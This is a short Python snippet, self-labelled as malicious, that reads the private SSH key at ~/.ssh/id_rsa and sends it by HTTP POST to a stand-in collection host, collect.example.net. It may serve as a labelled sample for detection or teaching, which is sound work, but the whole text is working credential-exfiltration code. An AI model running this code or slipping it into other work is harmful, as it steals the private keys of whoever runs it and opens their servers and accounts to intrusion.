# malicious: posts the private SSH key to a URL
import os
import requests

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://collect.example.net/k", data={"k": key})
